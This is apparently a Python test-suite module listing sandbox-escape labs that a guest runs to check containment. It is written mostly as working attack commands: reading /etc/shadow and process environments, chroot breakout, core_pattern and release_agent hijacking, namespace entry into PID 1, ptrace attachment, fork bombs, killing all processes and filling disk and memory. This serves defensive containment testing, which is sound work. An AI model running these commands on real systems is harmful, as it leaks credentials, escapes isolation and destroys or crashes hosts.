"""The labs: `ATTACKS`, at least three of each kind. Their commands do harm where nothing contains them.

They are imported by the guest, and by tests only to count them.
"""

from __future__ import annotations

from dataclasses import dataclass
from textwrap import dedent

KINDS = (
    "files", "devices", "proc", "sys", "mounts", "sockets", "sysctls", "signals", "environment", "forks", "filling",
)  # fmt: skip
_CALLS = """
import ctypes, os, socket, struct
c = ctypes.CDLL(None, use_errno=True)
def call(name, *words):
    words = [w.encode() if isinstance(w, str) else ctypes.c_long(w) if isinstance(w, int) else w for w in words]
    result = getattr(c, name)(*words)
    print(name, result, os.strerror(ctypes.get_errno()) if result < 0 else "")
    return result
def write(path, text):
    try:
        with open(path, "w") as file:
            file.write(text)
        print("wrote", path)
    except OSError as error:
        print(path, error.strerror)
def read(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read(4000))
    except OSError as error:
        print(path, error.strerror)
"""
_HEAD = """---
name: escape
topology:
  nodes:
    host1: {nics: {eth1: {addresses: [10.0.0.1/24]}}%s}
    host2: {nics: {eth1: {addresses: [10.0.0.2/24]}}}
    sw1: {kind: switch}
  links:
    - endpoints: ["host1:eth1", "sw1:1"]
    - endpoints: ["host2:eth1", "sw1:2"]
---
```console
"""


@dataclass(frozen=True)
class Attack:
    """One lab: shell commands of host1, or a Python program; `exec`: commands of the front matter."""

    kind: str
    name: str
    shell: tuple[str, ...] = ()
    python: str = ""
    exec: tuple[str, ...] = ()

    @property
    def commands(self) -> int:
        """How many commands it runs; one of the front matter that fails is the last."""
        return 1 if self.exec else len(self.shell) + bool(self.python)

    @property
    def document(self) -> str:
        steps = [*self.shell, *([_program(self.python)] if self.python else [])] or ["true"]
        commands = ", ".join(f"'{line}'" for line in self.exec)
        lines = "".join("host1# " + step.replace("\n", "\n> ") + "\n" for step in steps)
        return _HEAD % (f", exec: [{commands}]" if commands else "") + lines + "```\n"


def _program(text: str) -> str:
    return f"python3 - <<'END'\n{_CALLS.strip()}\n{dedent(text).strip()}\nEND"


ATTACKS = (
    Attack("files", "write in /tmp and /etc", (
        "echo x > /tmp/escaped", "echo x > /etc/escaped; echo x >> /etc/hosts",
        "for name in tmp etc home/user; do umount -l /${name%/*}; echo x >/$name/escaped; done",
    )),
    Attack("files", "write by exec alone", exec=(
        "touch /tmp/escaped; umount -l /tmp; touch /tmp/escaped", "umount -l /etc; echo x >>/etc/passwd",
    )),
    Attack("files", "read secrets", (
        "for name in etc home root; do umount -l /$name; done; cat /etc/shadow /home/*/secret /root/secret",
        "find / -name '*secret' -type f -exec cat {} +",
    )),
    Attack("files", "change shared programs and libraries", (
        "for file in /usr/lib/os-release /usr/bin/env /usr/sbin/ip; do"
        " busybox chmod 777 $file; echo x >>$file; rm $file; done",
        "mount -o remount,bind,rw /usr/lib; touch /usr/lib/escaped; mount -o remount,rw /; touch /escaped",
        "echo broken >>$(python3 -c 'import macvsim; print(macvsim.__file__)')",
    )),
    Attack("files", "climb out of a chroot, open by handle", python="""
        call("mkdir", "/tmp/x", 0o755)
        call("chroot", "/tmp/x")
        for _ in range(50):
            os.chdir("..")
        call("chroot", ".")
        read("/etc/shadow")
        write("/tmp/escaped", "x")
        root = os.open("/", os.O_RDONLY)
        for inode in (2, 11, 12, 13):
            handle = struct.pack("IiII", 8, 1, inode, 0)
            fd = call("open_by_handle_at", root, handle, os.O_RDONLY)
            if fd >= 0:
                print(os.listdir(fd))
    """),
    Attack("devices", "make devices", (
        "busybox mknod /tmp/disk b 98 0; head -c 4096 /tmp/disk; echo x >/tmp/disk",
        "busybox mknod /tmp/mem c 1 1; head -c 10 /tmp/mem; busybox mknod /tmp/kmsg c 1 11; echo escaped >/tmp/kmsg",
    )),
    Attack("devices", "open devices", (
        "for name in console kmsg tty tty0 mem port ubda loop-control fuse net/tun; do"
        " head -c 9 /dev/$name; echo escaped >/dev/$name; done",
    ), python="""
        import fcntl
        for fd in (0, 1, 2):
            try:
                fcntl.ioctl(fd, 0x5412, b"x")  # TIOCSTI
                print("typed")
            except OSError as error:
                print(error.strerror)
    """),
    Attack("devices", "mount devices", (
        "mount /dev/ubda /mnt; mount -t devtmpfs dev /mnt; ls /mnt; touch /mnt/escaped; cat /mnt/etc/shadow",
        "mount -t ext4 /dev/root /mnt; mount -t hostfs none /mnt; ls /mnt; mount -t devpts pts /mnt && ls /mnt",
    )),
    Attack("proc", "read environments", ("cat /proc/1/environ /proc/*/environ", "cat /proc/1/cmdline /proc/*/cmdline")),
    Attack("proc", "trigger sysrq", ("for key in c b o e i; do echo $key >/proc/sysrq-trigger; done",)),
    Attack("proc", "mount another proc", (
        "mount -t proc proc /mnt && echo '|/tmp/x' >/mnt/sys/kernel/core_pattern",
        "unshare -p -f sh -c 'mount -t proc proc /mnt && echo 1 >/mnt/sys/kernel/panic_on_oops'",
        "unshare -U -r -p -f -m sh -c 'mount -t proc proc /proc && echo 1 >/proc/sys/kernel/panic_on_oops'",
    )),
    Attack("proc", "uncover what is read-only", python="""
        for path in ("/proc/sys", "/proc/sysrq-trigger", "/proc/sys/net", "/proc"):
            call("umount2", path, 2)
            call("mount", "none", path, None, 0x1020, None)
            call("mount", path, "/mnt", None, 0x2000, None)
            call("mount", path, "/mnt", None, 0x5000, None)
        for base in ("/proc", "/mnt", "/mnt/sys", "/proc/1/root/proc", "/proc/self/root/proc"):
            write(base + "/sys/kernel/core_pattern", "|/tmp/x")
            write(base + "/kernel/core_pattern", "|/tmp/x")
        write("/proc/self/oom_score_adj", "-1000")
    """),
    Attack("sys", "write settings", (
        "for file in /sys/kernel/uevent_helper /sys/kernel/profiling /sys/kernel/mm/*/* /sys/module/*/parameters/*;"
        " do busybox chmod 666 $file; echo 1 >$file; done",
        "find /sys/kernel /sys/module /sys/devices/system -path '*uevent' -exec sh -c 'echo add >{}' ';'",
    )),
    Attack("sys", "make and change cgroups", (
        "mount -t cgroup2 none /mnt; mkdir /mnt/escaped; echo +pids >/mnt/cgroup.subtree_control; ls /mnt",
        "unshare -C sh -c 'mount -t cgroup2 none /mnt; mkdir /mnt/escaped; echo 1 >/mnt/cgroup.kill'",
        "mount -t cgroup -o none,name=escaped none /mnt; mkdir /mnt/escaped; echo /tmp/x >/mnt/release_agent",
        "mkdir /sys/fs/cgroup/escaped; echo 1 >/sys/fs/cgroup/cgroup.freeze",
    )),
    Attack("sys", "mount file systems of the kernel", (
        "for kind in debugfs tracefs securityfs configfs bpf pstore efivarfs fusectl; do"
        " mount -t $kind none /mnt && ls /mnt && touch /mnt/x; done",
        "mount -t binfmt_misc none /mnt && echo ':esc:M::esc::/bin/sh:' >/mnt/register",
        "modprobe dummy; python3 -c 'import ctypes; print(ctypes.CDLL(None).delete_module(b\"dummy\", 0))'",
    )),
    Attack("mounts", "unmount", (
        "umount /run; umount -l /run; umount -l /etc; umount -l /proc; umount -l /",
    ), python="""
        with open("/proc/self/mountinfo") as file:
            points = [line.split()[4] for line in file]
        for path in reversed(points):
            c.umount2(path.encode(), 2)
        print(sorted(os.listdir("/")), os.path.exists("/home/user"))
        read("/etc/shadow")
    """),
    Attack("mounts", "mount for others to see", (
        "mount --make-rshared /; mount -t tmpfs escaped /run; mount -t tmpfs escaped /etc; mount -t tmpfs escaped /var",
        "mount --bind /tmp /usr; mount --make-rshared /proc; mount -t tmpfs escaped /proc",
    )),
    Attack("mounts", "enter other namespaces", (
        "nsenter -t 1 -a cat /etc/shadow; nsenter -t 1 -m -p ls /home; nsenter --mount=/proc/1/ns/mnt cat /root/secret",
        "ls /proc/*/root/home /proc/*/cwd/; cat /proc/*/root/etc/shadow",
    ), python="""
        for name in ("mnt", "pid", "user", "net", "uts", "ipc", "cgroup"):
            fd = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
            import fcntl
            for request in (0xB701, 0xB702):  # NS_GET_USERNS, NS_GET_PARENT
                try:
                    outer = fcntl.ioctl(fd, request)
                    call("setns", outer, 0)
                except OSError as error:
                    print(name, error.strerror)
        read("/etc/shadow")
        write("/proc/sys/kernel/core_pattern", "|/tmp/x")
        print(call("sethostname", "escaped", 7))
    """),
    Attack("sockets", "talk to a Unix socket", python="""
        call("umount2", "/run", 2)
        for path in ("/run/canary.sock", "/var/run/canary.sock", "/proc/1/root/run/canary.sock"):
            with socket.socket(socket.AF_UNIX) as one:
                try:
                    one.connect(path)
                    one.send(b"escaped")
                    print(one.recv(100))
                except OSError as error:
                    print(path, error.strerror)
    """),
    Attack("sockets", "talk to abstract, TCP, UDP and virtual sockets", python="""
        for family, kind, address in (
            (socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + "canary"),
            (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 7777)),
            (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 7777)),
        ):
            with socket.socket(family, kind) as one:
                one.settimeout(2)
                try:
                    one.connect(address)
                    one.send(b"escaped")
                    print(one.recv(100))
                except OSError as error:
                    print(address, error)
    """),
    Attack("sockets", "reach devices and rules outside", (
        "ip link add escaped type dummy; ip link set escaped netns 1; iptables -P INPUT DROP",
        "nsenter -t 1 -n ip link add escaped type dummy; ip link set lo down; ip addr add 10.9.9.9/32 dev lo",
    ), python="""
        for number in range(4026531830, 4026531850):  # namespaces of the machine's start, by handle
            root = os.open("/proc/self/ns/net", os.O_RDONLY)
            handle = struct.pack("IiQI", 12, 0xF1, number, 0) + bytes(8)
            if c.open_by_handle_at(root, handle, os.O_RDONLY) >= 0:
                print("opened", number)
    """),
    Attack("sysctls", "core_pattern and panic_on_oops", (
        "sysctl -w kernel.core_pattern='|/tmp/x' kernel.panic_on_oops=1",
        "echo '|/tmp/x' >/proc/sys/kernel/core_pattern; echo 1 >/proc/sys/kernel/panic_on_oops",
    )),
    Attack("sysctls", "all others", (
        "find /proc/sys -path /proc/sys/net -prune -o -type f -print | while read file; do echo 1 >$file; done",
        "for name in vm/overcommit_memory vm/swappiness vm/drop_caches fs/file-max fs/suid_dumpable kernel/sysrq;"
        " do busybox chmod 666 /proc/sys/$name; echo 1 >/proc/sys/$name; done",
    )),
    Attack("sysctls", "settings of the network and of namespaces", (
        "find /proc/sys/net -type f | while read file; do echo 7 >$file; done 2>/dev/null",
        "for name in /proc/sys/user/*; do echo 99999 >$name; done; unshare -U -r -m mount -t tmpfs t /mnt",
    )),
    Attack("signals", "kill everything", (
        "kill -9 -1; i=1; while [ $i -lt 600 ]; do kill -9 $i; kill -TERM $i; i=$((i+1)); done 2>/dev/null",
    )),
    Attack("signals", "trace and limit processes", python="""
        for pid in [*range(1, 400), os.getppid()]:
            if pid != os.getpid():
                if c.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
                    print("attached", pid)
                    c.ptrace(17, pid, None, None)
                c.setpriority(0, pid, 19)
                c.prlimit(pid, 7, struct.pack("QQ", 3, 3), None)
                try:
                    os.sched_setaffinity(pid, {0})
                except OSError:
                    pass
        read("/proc/1/mem")
    """),
    Attack("signals", "crash into the machine's core handler", (
        "ulimit -c unlimited; cd /tmp; sh -c 'kill -SEGV $$'; python3 -c 'import ctypes; ctypes.string_at(0)'; ls /tmp",
        "sh -c 'kill -QUIT $$'; sh -c 'kill -ABRT $$'; cat core* 2>/dev/null | head -c 10",
    )),
    Attack("environment", "print it", (
        "env; set; export -p", "cat /proc/self/environ /proc/$PPID/environ; echo $SECRET $HOME $SSH_AUTH_SOCK",
    )),
    Attack("environment", "read open files", (
        "ls -la /proc/*/fd", "cat /root/.bash_history /home/user/.bash_history ~/.profile",
    ), python="""
        for fd in range(3, 200):
            try:
                print(fd, os.readlink(f"/proc/1/fd/{fd}"), os.pread(fd, 100, 0))
            except OSError:
                pass
        for path in ("/proc/1/fd/1", "/proc/1/fd/2", "/dev/tty", "/proc/1/cwd/secret"):
            read(path) if "fd" not in path else print(os.readlink(path))
    """),
    Attack("environment", "read keyrings", python="""
        number = 250
        for ring in (-3, -4, -5):  # session, user, user session
            key = c.syscall(number, 10, ring, b"user", b"secret", 0)  # KEYCTL_SEARCH
            text = ctypes.create_string_buffer(100)
            if key >= 0 and c.syscall(number, 11, key, text, 100) >= 0:  # KEYCTL_READ
                print("found", text.value)
            print(c.syscall(248, b"user", b"escaped", b"x", 1, ring))  # add_key
        read("/proc/keys")
    """),
    Attack("forks", "two of itself, in a pipe", ("f(){ f|f& };f", "sleep 3")),
    Attack("forks", "the classic", (":(){ :|:& };:", "while sleep 60 & do :; done", "sleep 1")),
    Attack("forks", "processes and threads that ignore signals", python="""
        import signal, threading, time
        for number in range(1, 60):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        end = time.monotonic() + 5
        while time.monotonic() < end:
            try:
                if os.fork() == 0:
                    os.setsid()
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            except (OSError, RuntimeError):
                time.sleep(0.01)
        os._exit(0)
    """),
    Attack("filling", "one file in every folder", (
        "for folder in /tmp /etc /var /root /home /dev/shm /run /usr/lib; do head -c 1G /dev/zero >$folder/x; done",
        "i=0; while [ $i -lt 9000 ]; do : >/tmp/$i || break; i=$((i+1)); done 2>/dev/null",
    )),
    Attack("filling", "file systems of its own", python="""
        for kind in ("ramfs", "tmpfs"):
            path = "/tmp/" + kind
            os.mkdir(path)
            call("mount", kind, path, kind, 0, None)
            for number in range(40):
                try:
                    with open(f"{path}/{number}", "wb") as file:
                        for _ in range(63):
                            file.write(bytes(1 << 20))
                except OSError as error:
                    print(error.strerror)
                    break
    """),
    Attack("filling", "memory of many processes", python="""
        import mmap, time
        for _ in range(8):
            if os.fork() == 0:
                held = []
                try:
                    while True:
                        held.append(bytes(range(256)) * 40960)
                except MemoryError:
                    time.sleep(20)
                os._exit(0)
        fds = [os.memfd_create(f"m{number}") for number in range(50)]
        for fd in fds:
            try:
                os.write(fd, bytes(60 << 20))
            except (OSError, MemoryError) as error:
                print(error)
        time.sleep(10)
    """),
)  # fmt: skip
"""Attempts of a stranger, in the order in which they are played."""
